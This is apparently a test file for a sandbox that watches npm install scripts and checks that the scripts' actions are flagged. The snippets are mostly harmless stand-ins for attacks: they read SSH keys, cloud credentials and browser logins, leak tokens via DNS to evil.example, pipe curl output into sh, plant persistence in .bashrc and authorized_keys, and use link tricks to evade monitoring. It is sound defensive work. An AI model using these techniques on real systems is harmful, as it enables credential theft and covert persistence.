/** What install scripts do in a real sandbox, and what is found of it. All packages are our own, and harm nothing. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { BehaviourFinding } from '../../core/behaviour.ts';
import {
  foundIn,
  observedOf,
  openBehaviourWorld,
  type BehaviourWorld,
} from '../../../test/support/behaviour.ts';
import { noSandbox } from '../../../test/support/sandbox.ts';

const home = 'process.env.HOME';

/** Each in a process of its own: name → Node's code. Names are the files' names, so that a finding says whose it is. */
const attacks: Readonly<Record<string, string>> = {
  'read-npmrc': `fs.readFileSync(${home} + '/.npmrc')`,
  'read-key-by-link': `fs.symlinkSync(${home} + '/.ssh', 'x'); fs.readFileSync('x/id_ed25519')`,
  'copy-wallet': `fs.copyFileSync(${home} + '/.config/solana/id.json', '/tmp/w')`,
  'hard-link-cloud': `fs.linkSync(${home} + '/.aws/credentials', ${home} + '/.aws/c2')`,
  'browser-logins': `fs.readFileSync(${home} + '/.config/google-chrome/Default/Login Data')`,
  'token-in-arguments': `cp.execFileSync('true', [Buffer.from('x' + process.env.NPM_TOKEN).toString('base64')])`,
  'token-in-file': `fs.writeFileSync('/tmp/loot', 'a'.repeat(200) + fs.readFileSync(${home} + '/.git-credentials', 'utf8').trim().slice(12, 50))`,
  'token-in-name': `dns.resolve4(Buffer.from(process.env.GITHUB_TOKEN.slice(4, 30)).toString('hex') + '.evil.example', () => {})`,
  'ask-stranger': `dns.lookup('collect.evil.example', () => {})`,
  'bare-address': `net.connect(443, '203.0.113.7').on('error', () => {})`,
  'cloud-metadata': `net.connect(80, '169.254.169.254').on('error', () => {})`,
  'docker-socket': `net.connect('/var/run/docker.sock').on('error', () => {})`,
  'write-project': `fs.writeFileSync(process.env.INIT_CWD + '/index.js', 'x')`,
  'write-system': `try { fs.writeFileSync('/usr/bin/extra', 'x') } catch {}`,
  'write-through-link': `fs.symlinkSync(process.env.INIT_CWD, 'way'); fs.renameSync('../watched/note.txt', 'way/moved.txt')`,
  'shell-profile': `fs.appendFileSync(${home} + '/.bashrc', '#')`,
  'agent-settings': `fs.mkdirSync(${home} + '/.claude', { recursive: true }); fs.writeFileSync(${home} + '/.claude/settings.json', '{}')`,
  workflow: `fs.mkdirSync(process.env.INIT_CWD + '/.github/workflows', { recursive: true }); fs.writeFileSync(process.env.INIT_CWD + '/.github/workflows/x.yml', '')`,
  'git-hook': `try { fs.writeFileSync(process.env.INIT_CWD + '/.git/hooks/pre-commit', '') } catch {}`,
  unit: `fs.mkdirSync(${home} + '/.config/systemd/user', { recursive: true }); fs.writeFileSync(${home} + '/.config/systemd/user/x.service', '')`,
  'ssh-login': `fs.writeFileSync(${home} + '/.ssh/authorized_keys', '')`,
  tamper: `fs.appendFileSync('../other/index.js', '//')`,
  'drop-and-run': `fs.writeFileSync('/tmp/stage2', '#!/bin/sh\\ntrue\\n', { mode: 0o755 }); cp.execFileSync('/tmp/stage2')`,
  'drop-script-and-run': `fs.writeFileSync('/tmp/stage3.js', '0'); cp.execFileSync(process.execPath, ['/tmp/stage3.js'])`,
  'drop-renamed': `fs.writeFileSync('/tmp/a', '#!/bin/sh\\ntrue\\n', { mode: 0o755 }); fs.renameSync('/tmp/a', '/tmp/b'); fs.symlinkSync('/tmp/b', '/tmp/c'); cp.execFileSync('/tmp/c')`,
  'copy-then-write': `cp.execFileSync('perl', ['-e', 'open O, ">/tmp/mixed"; open I, "<tamper.js"; syscall(40, fileno O, fileno I, 0, 9); syswrite O, "true #"; close O; chmod 0755, "/tmp/mixed"; system "/tmp/mixed"'], { stdio: 'ignore' })`,
  'write-then-copy': `cp.execFileSync('perl', ['-e', 'open O, ">/tmp/fixed"; open I, "<tamper.js"; syswrite O, "true #"; syscall(40, fileno O, fileno I, 0, 9); close O; chmod 0755, "/tmp/fixed"; system "/tmp/fixed"'], { stdio: 'ignore' })`,
  'move-key-folder': `fs.renameSync(${home} + '/.azure', ${home} + '/a'); fs.readFileSync(${home} + '/a/msal_token_cache.json')`,
  'link-by-cwd': `process.chdir(${home}); fs.linkSync('/proc/self/cwd/.docker/config.json', 'd'); fs.readFileSync('d')`,
  'link-by-parents-cwd': `process.chdir(${home}); cp.execFileSync(process.execPath, ['-e', "fs.linkSync('/proc/" + process.pid + "/cwd/.kube/config', process.env.HOME + '/k')"], { cwd: '/tmp' })`,
  'link-by-dots': `fs.symlinkSync(${home} + '/.mozilla', '/tmp/dots'); fs.linkSync('/tmp/dots/../.zsh_history', ${home} + '/h'); fs.readFileSync(${home} + '/h')`,
  'link-by-descriptor': `const fd = fs.openSync(${home} + '/.config/gh/hosts.yml', 0o10000000); cp.execFileSync('ln', ['-L', '/proc/self/fd/3', ${home} + '/g'], { stdio: ['ignore', 'inherit', 'inherit', fd] })`,
  'exchange-names': `fs.writeFileSync(${home} + '/plain', ''); cp.execFileSync('perl', ['-e', 'syscall(316, -100, "$ENV{HOME}/plain", -100, "$ENV{HOME}/.local/share/keyrings/login.keyring", 2) == 0 or die'])`,
  'drop-in-folder': `fs.mkdirSync('/tmp/f1'); fs.writeFileSync('/tmp/f1/p', '#!/bin/sh\\ntrue\\n', { mode: 0o755 }); fs.renameSync('/tmp/f1', '/tmp/f2'); cp.execFileSync('/tmp/f2/p')`,
  'drop-by-cwd': `process.chdir('/tmp'); fs.writeFileSync('stage5', '#!/bin/sh\\ntrue\\n', { mode: 0o755 }); cp.execFileSync('/proc/self/cwd/stage5')`,
  'drop-for-loader': `fs.writeFileSync('/tmp/stage6', fs.readFileSync('/bin/true')); cp.execFileSync('/lib64/ld-linux-x86-64.so.2', ['--argv0', 'x', '/tmp/stage6'])`,
  'drop-behind-option': `fs.writeFileSync('/tmp/stage7', '0'); cp.execFileSync(process.execPath, ['-r', 'path', '/tmp/stage7'])`,
  'run-a-descriptor': `cp.execFileSync('sh', ['-c', 'exec 5</bin/true; exec /proc/thread-self/fd/5'])`,
  'drop-and-load': `fs.writeFileSync('/tmp/stage4.js', '0'); require('/tmp/stage4.js')`,
  'unseen-process': `cp.execFileSync('perl', ['-e', 'syscall(56, 0x800011, 0, 0, 0, 0)'])`,
  'drop-inside': `fs.writeFileSync('payload.js', '0'); cp.execFileSync(process.execPath, ['payload.js'])`,
  'fetch-into-shell': `try { cp.execSync('curl -fsSL https://evil.example/x | sh', { stdio: 'ignore' }) } catch {}`,
  'decode-into-shell': `cp.execSync('echo dHJ1ZQ== | base64 -d | sh')`,
  'decode-in-node': `cp.execFileSync(process.execPath, ['-e', 'eval(Buffer.from("MA==", "base64").toString())'])`,
  'long-text': `cp.execFileSync(process.execPath, ['-e', 'void "${'QUJD'.repeat(80)}"'])`,
  'other-environment': `try { fs.readFileSync('/proc/' + process.ppid + '/environ') } catch {}`,
  'other-memory': `try { fs.openSync('/proc/1/mem') } catch {}`,
  setuid: `fs.writeFileSync('s', ''); try { fs.chmodSync('s', 0o4755) } catch {}`,
  'become-root': `try { process.setuid(0) } catch {}`,
  'own-manifest': `fs.writeFileSync('package.json', '{}')`,
  'own-script': `fs.unlinkSync(__filename)`,
};

/** What they must be found as: rule, severity, and words of the message. */
const expected: Readonly<Record<string, readonly [string, BehaviourFinding['severity'], RegExp]>> = {
  'read-npmrc': ['honeytoken-read', 'high', /npm token/],
  'read-key-by-link': ['honeytoken-read', 'high', /SSH key/],
  'copy-wallet': ['honeytoken-read', 'high', /wallet/],
  'hard-link-cloud': ['honeytoken-read', 'high', /AWS key/],
  'browser-logins': ['honeytoken-read', 'high', /browser logins/],
  'token-in-arguments': ['honeytoken-moved', 'critical', /npm token of the environment.*a command line/],
  'token-in-file': ['honeytoken-moved', 'critical', /git credentials.*wrote to \/tmp\/loot/],
  'token-in-name': ['honeytoken-moved', 'critical', /GitHub token.*a name asked for/],
  'ask-stranger': ['contact-outside', 'medium', /collect\.evil\.example/],
  'bare-address': ['contact-outside', 'high', /203\.0\.113\.7:443/],
  'cloud-metadata': ['contact-metadata', 'high', /169\.254\.169\.254/],
  'docker-socket': ['contact-service', 'high', /docker\.sock/],
  'write-project': ['write-outside', 'medium', /\.\/index\.js/],
  'write-system': ['write-outside', 'medium', /\/usr\/bin\/extra/],
  'write-through-link': ['write-outside', 'medium', /\.\/moved\.txt/],
  'shell-profile': ['persistence', 'high', /~\/\.bashrc/],
  'agent-settings': ['persistence', 'high', /~\/\.claude/],
  workflow: ['persistence', 'high', /\.github\/workflows/],
  'git-hook': ['persistence', 'high', /\.git\/hooks\/pre-commit/],
  unit: ['persistence', 'high', /systemd\/user/],
  'ssh-login': ['persistence', 'high', /authorized_keys/],
  tamper: ['tampers', 'high', /node_modules\/other\/index\.js/],
  'drop-and-run': ['download-and-execute', 'high', /\/tmp\/stage2/],
  'drop-script-and-run': ['download-and-execute', 'high', /\/tmp\/stage3\.js/],
  'drop-renamed': ['download-and-execute', 'high', /\/tmp\/b/],
  'copy-then-write': ['download-and-execute', 'high', /\/tmp\/mixed/],
  'write-then-copy': ['download-and-execute', 'high', /\/tmp\/fixed/],
  'move-key-folder': ['honeytoken-read', 'high', /Azure token/],
  'link-by-cwd': ['honeytoken-read', 'high', /Docker login/],
  'link-by-parents-cwd': ['honeytoken-read', 'high', /Kubernetes token/],
  'link-by-dots': ['honeytoken-read', 'high', /shell history/],
  'link-by-descriptor': ['honeytoken-read', 'high', /GitHub login/],
  'exchange-names': ['honeytoken-read', 'high', /password store/],
  'drop-in-folder': ['download-and-execute', 'high', /\/tmp\/f2\/p/],
  'drop-by-cwd': ['download-and-execute', 'high', /\/tmp\/stage5/],
  'drop-for-loader': ['download-and-execute', 'high', /\/tmp\/stage6/],
  'drop-behind-option': ['download-and-execute', 'high', /\/tmp\/stage7/],
  'run-a-descriptor': ['memory-execution', 'high', /memory alone/],
  'drop-and-load': ['loads-written-file', 'medium', /stage4/],
  'unseen-process': ['unwatched', 'high', /nobody who watches/],
  'drop-inside': ['runs-written-file', 'medium', /payload\.js/],
  'fetch-into-shell': ['hidden-code', 'high', /fetches from a network/],
  'decode-into-shell': ['hidden-code', 'high', /Decodes code.*base64 -d/],
  'decode-in-node': ['hidden-code', 'high', /Decodes code.*eval/],
  'long-text': ['hidden-code', 'medium', /long text/],
  'other-environment': ['other-process', 'high', /\/proc\/\d+\/environ/],
  'other-memory': ['other-process', 'high', /\/proc\/1\/mem/],
  setuid: ['setuid', 'high', /its owner's rights/],
  'become-root': ['setuid', 'medium', /become root/],
  'own-manifest': ['hides-itself', 'medium', /own package\.json/],
  'own-script': ['hides-itself', 'medium', /Deleted .*own-script\.js/],
};

const prelude =
  "const fs = require('fs'), cp = require('child_process'), dns = require('dns'), net = require('net');\n";

/** A walk over everything, what npm itself does, and what honest packages are known for. */
const honest: Readonly<Record<string, string>> = {
  'walk.js': `${prelude}
    const walk = (folder) => fs.readdirSync(folder, { withFileTypes: true }).forEach((entry) => {
      const path = folder + '/' + entry.name;
      fs.statSync(path); fs.accessSync(path); fs.realpathSync(path);
      if (entry.isDirectory()) walk(path);
    });
    walk(${home});`,
  'banner.js': `${prelude}
    const file = require('path').join(require('os').tmpdir(), 'some-banners');
    let seen = []; try { seen = JSON.parse(fs.readFileSync(file, 'utf8')) } catch {}
    fs.writeFileSync(file, JSON.stringify([...seen, Date.now()]));
    console.log('Thank you for using this! https://opencollective.example/some');`,
  // Links its platform's binary over its own start, and asks it for its version.
  'validate.js': `${prelude}
    const from = require.resolve('@some/linux-x64/bin/tool'), to = __dirname + '/bin/tool';
    fs.linkSync(from, to + '.tmp'); fs.renameSync(to + '.tmp', to);
    if (cp.execFileSync(to, ['--version']).toString().trim() !== '1.0.0') throw 1;
    fs.copyFileSync(from, '/tmp/tool'); cp.execFileSync('/tmp/tool', ['--version']);`,
  'hooks.js': `${prelude}
    try { cp.execSync('git rev-parse', { stdio: 'ignore' }) } catch { console.log('not a git repository') }
    if (fs.existsSync(process.env.INIT_CWD + '/.git')) fs.writeFileSync(process.env.INIT_CWD + '/.git/hooks/x', '');`,
  'caches.js': `${prelude}
    fs.mkdirSync(${home} + '/.cache/some', { recursive: true }); fs.writeFileSync(${home} + '/.cache/some/x', '');
    fs.mkdirSync('../.cache/some', { recursive: true }); fs.writeFileSync('../.cache/some/y', '');
    fs.writeFileSync('built.json', JSON.stringify({ now: 1 })); require('./built.json');
    fs.readFileSync('/proc/self/environ'); fs.readFileSync('/proc/' + process.pid + '/maps'); fs.readFileSync('/proc/1/status');
    fs.readFileSync('../other/index.js'); fs.readFileSync(process.env.INIT_CWD + '/package.json');`,
  'local.js': `${prelude}
    const server = net.createServer().listen(0, '127.0.0.1', () => {
      net.connect(server.address().port, '127.0.0.1', function () { this.destroy(); server.close(); });
      dns.lookup('registry.example.com', () => {}); dns.lookup('localhost', () => {}); dns.lookup(require('os').hostname(), () => {});
    });`,
  'compile.sh': `printf 'int main(void){return 0;}' > conftest.c && cc conftest.c -o conftest && ./conftest && rm conftest conftest.c
    ldd /bin/true; bash -o pipefail -c true; mkdir made; echo '{}' > made/x.json; mv made moved; cat /proc/self/cwd/moved/x.json
    base64 /dev/null; echo '{}' | node -e "process.stdin.resume()"; node -p process.version; sleep 0.2`,
  'bin/tool': '#!/bin/sh\necho 0.0.0\n',
};

describe('install scripts are watched', { skip: noSandbox ?? false }, () => {
  let world: BehaviourWorld;
  let findings: readonly BehaviourFinding[];
  before(async () => {
    world = await openBehaviourWorld();
    const files = Object.fromEntries(
      Object.entries(attacks).map(([name, code]) => [`${name}.js`, `${prelude}${code}\n`]),
    );
    const names = Object.keys(attacks);
    // In order: the one that removes itself last.
    const observed = observedOf(
      await world.observe({
        scripts: { postinstall: names.map((name) => `node ${name}.js`).join('; ') },
        files: { ...files, 'note.txt': 'x' },
        dependencies: { 'node_modules/other': { 'index.js': '0\n' } },
      }),
    );
    assert.deepEqual([observed.report.whole, observed.report.ended], [true, 'exit'], observed.output);
    findings = observed.report.findings;
  });
  after(() => world.close());

  for (const name of Object.keys(attacks))
    it(`finds what ${name} does`, () => {
      const [rule, severity, words] = expected[name] ?? ['', 'none', /^$/];
      const found = findings.filter((one) => one.rule === `behaviour/${rule}` && words.test(one.message));
      assert.ok(
        found.some((one) => one.severity === severity),
        JSON.stringify(
          found.length > 0 ? found : findings.filter((one) => one.process?.includes(`${name}.js`)),
          null,
          1,
        ),
      );
    });

  it('finds nothing in what honest packages do', async () => {
    const observed = observedOf(
      await world.observe({
        scripts: {
          preinstall: 'npm --version',
          install: 'node -e "try{require(\'./banner\')}catch(e){}" && node walk.js && node validate.js',
          postinstall: 'node hooks.js && node caches.js && node local.js && sh compile.sh || exit 0',
        },
        files: honest,
        dependencies: {
          'node_modules/other': { 'index.js': '0\n' },
          'node_modules/@some/linux-x64': {
            'bin/tool': '#!/bin/sh\necho 1.0.0\n',
            'package.json': '{"bin":{"tool":"bin/tool"}}',
          },
        },
      }),
    );
    const { report, output } = observed;
    assert.deepEqual(report.findings, [], output);
    assert.deepEqual([report.ended, report.whole, report.isolation], ['exit', true, 'full'], output);
    assert.deepEqual(report.scripts, ['preinstall', 'install', 'postinstall']);
    assert.match(output, /Thank you for using this/);
    assert.ok(report.actions.includes('connect:registry') && report.actions.includes('exec:compiler'));
  });

  it('says only little of a download of what was prebuilt, by the packages that do that', async () => {
    const download = `require('https').get('https://github.com/a/b/releases/x.tar.gz').on('error', () => process.exit(1));\n`;
    const of = async (folder: string) => {
      const scripts = { install: `node ../${folder}/bin.js || echo no binary` };
      const dependencies = { [`node_modules/${folder}`]: { 'bin.js': download } };
      return observedOf(await world.observe({ scripts, dependencies })).report;
    };
    assert.deepEqual(foundIn(await of('prebuild-install')), ['prebuilt-download low']);
    assert.deepEqual(foundIn(await of('left-pad')), ['contact-outside medium']);
  });
});
